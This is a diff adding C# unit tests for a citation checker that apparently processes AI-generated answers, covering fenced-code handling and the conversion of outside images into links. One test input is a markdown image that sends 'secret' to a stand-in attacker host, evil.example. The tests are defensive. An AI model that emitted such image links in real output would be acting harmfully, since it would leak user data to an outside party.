@@ -45,6 +45,40 @@ public sealed class AnswerTests
         Assert.Empty(answer.Resources);
     }
 
+    [Theory]
+    [InlineData("![x](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)")]
+    [InlineData("![x][1]\n\n[1]: https://evil.example/", "[x][1]\n\n[1]: https://evil.example/")]
+    [InlineData("![a ![b](http://e/)](http://e/)", "[a [b](http://e/)](http://e/)")]
+    public void A_picture_from_elsewhere_becomes_a_link_that_nothing_fetches(string text, string expected) =>
+        Assert.Equal(expected, CitationChecker.Check(text, [Sound]).Text);
+
+    [Theory]
+    [InlineData("```text\n[a](resource:x)\n```\n")]
+    [InlineData("~~~\n<resource:x>\n```\n[a](resource:x)\n~~~\n")]
+    [InlineData("````\n```\n[a](resource:x)\n````")]
+    [InlineData("```\r\n[a](resource:x)\r\n   ```  \r\n")]
+    [InlineData("```\n[a](resource:x)\nand no end")]
+    public void Fenced_code_is_text_and_stays_as_it_is(string code)
+    {
+        Assert.Equal($"See b.\n{code}", CitationChecker.Check($"See [b](resource:y).\n{code}", [Sound]).Text);
+        Assert.Empty(CitationChecker.Check($"```\n[it](resource:{Sound.Id})\n```", [Sound]).Resources);
+    }
+
+    [Theory]
+    [InlineData("```\ncode\n```\n")]
+    [InlineData("``` a`b\n")]
+    [InlineData("``\n")]
+    [InlineData("- item\n  ```\n")]
+    [InlineData("- item\n\n  ```\n```\n```\n")]
+    [InlineData("> ```\n")]
+    [InlineData("1. ~~~\n")]
+    [InlineData("<!--\n```\n-->\n")]
+    [InlineData("<pre>\n```\n</pre>\n")]
+    [InlineData("    ```\n")]
+    [InlineData("````\n```\n````\n")]
+    public void What_only_looks_like_fenced_code_hides_no_citation(string before) =>
+        Assert.Equal($"{before}\nSee the file.", CitationChecker.Check($"{before}\nSee [the file](resource:x).", [Sound]).Text);
+
     [Fact]
     public void A_citation_in_another_form_of_what_exists_is_kept_too()
     {
